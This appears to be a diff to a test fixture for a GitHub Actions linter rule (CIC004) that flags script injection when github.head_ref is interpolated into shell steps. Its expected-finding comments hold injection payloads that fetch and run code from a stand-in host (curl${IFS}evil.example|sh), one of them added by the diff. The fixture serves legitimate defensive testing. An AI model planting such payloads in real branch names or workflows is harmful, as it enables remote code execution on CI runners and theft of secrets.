@@ -5,6 +5,9 @@ jobs:
     steps:
       - run: grep v <<< '${{ github.head_ref }}'  # expect: CIC004 "head_ref" "instead of the single quotes"
       - run: |
+          echo "tag=$(grep v <<< '${{ github.head_ref }}')" # expect: CIC004 "head_ref" "instead of the single quotes"
+          echo "$(date) '${{ github.head_ref }}'" # expect: CIC004 "head_ref" "$(curl${IFS}evil.example|sh)"
+      - run: |
           # don't
           echo "it's" "${{ github.head_ref }}"  # expect: CIC004 "head_ref" "$(curl${IFS}evil.example|sh)"
           echo '${{ github.head_ref }}'  # expect: CIC004 "head_ref" "';curl${IFS}evil.example|sh;'"
